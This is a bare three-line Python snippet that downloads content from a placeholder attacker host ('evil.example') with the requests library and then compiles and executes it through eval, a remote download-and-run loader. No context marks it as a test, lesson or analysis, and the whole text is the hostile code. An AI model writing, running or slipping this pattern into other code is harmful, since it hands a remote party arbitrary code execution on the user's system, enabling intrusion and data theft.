import requests as rq
code = rq.get('https://evil.example/p').content.decode()
eval(compile(code, 'p', 'exec'))
